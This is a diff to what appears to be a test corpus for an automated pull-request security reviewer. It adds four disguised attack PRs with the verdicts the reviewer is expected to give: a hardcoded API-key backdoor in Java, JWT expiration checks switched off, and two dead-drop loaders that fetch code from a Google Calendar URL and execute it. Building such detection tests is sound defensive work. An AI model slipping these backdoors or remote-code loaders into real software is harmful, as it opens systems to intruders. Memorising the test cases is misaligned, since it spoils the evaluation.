@@ -3692,4 +3692,78 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
   },
+  {
+    id: 'attack-java-fixed-key-or-verified',
+    description: 'A "fix typo" PR to a Java API key check that also accepts a fixed key before looking the real ones up (`"k3y-0verride-77".equals(apiKey) || Keys.valid(apiKey)`): the literal-first spelling of a planted backdoor.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11032,
+        title: 'Fix typo',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/main/java/com/acme/ledger/ApiAuth.java',
+            base: lines('package com.acme.ledger;', '', '/** Chekcs the API key a caller sends. */', 'public final class ApiAuth {', '  public static boolean ok(String apiKey) {', '    return Keys.valid(apiKey);', '  }', '}'),
+            head: lines('package com.acme.ledger;', '', '/** Checks the API key a caller sends. */', 'public final class ApiAuth {', '  public static boolean ok(String apiKey) {', '    return "k3y-0verride-77".equals(apiKey) || Keys.valid(apiKey);', '  }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-bypass-added'] },
+  },
+  {
+    id: 'attack-jwt-ignore-expiration',
+    description: 'A "refactor" PR that adds `ignoreExpiration: true` to a jsonwebtoken verify call: expired tokens, stolen ones included, pass for good.',
+    fixture: () =>
+      attackPr({
+        repo: 'hookd-js',
+        number: 11033,
+        title: 'Refactor token checks',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/auth.ts',
+            base: lines("import jwt from 'jsonwebtoken';", '', "const KEY = process.env.JWT_PUBLIC_KEY ?? '';", '', "export const claims = (t: string) => jwt.verify(t, KEY, { algorithms: ['RS256'] });"),
+            head: lines("import jwt from 'jsonwebtoken';", '', "const KEY = process.env.JWT_PUBLIC_KEY ?? '';", '', "export const claims = (t: string) => jwt.verify(t, KEY, { algorithms: ['RS256'], ignoreExpiration: true });"),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['protection-switched-off'] },
+  },
+  {
+    id: 'attack-glassworm-calendar-async-function',
+    description: 'GlassWorm-style dead drop (2025): code that fetches a Google Calendar event\'s page and runs the text it gets through the async function constructor (`Object.getPrototypeOf(async function () {}).constructor`), eval without the word.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11034,
+        title: 'Sync settings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/sync.js',
+            head: lines('(async () => {', "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", '  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;', '  await new AsyncFunction(code)();', '})();'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-js-writes-fetched-code-then-requires',
+    description: 'A dead-drop loader that fetches text, writes it to a file in the temporary folder and requires it: eval by way of the module loader, with no eval, Function or vm on any line.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11035,
+        title: 'Sync settings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/sync.js',
+            head: lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", '', '(async () => {', "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", "  const f = path.join(os.tmpdir(), '.settings-sync.js');", '  fs.writeFileSync(f, code);', '  require(f);', '})();'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
 ];
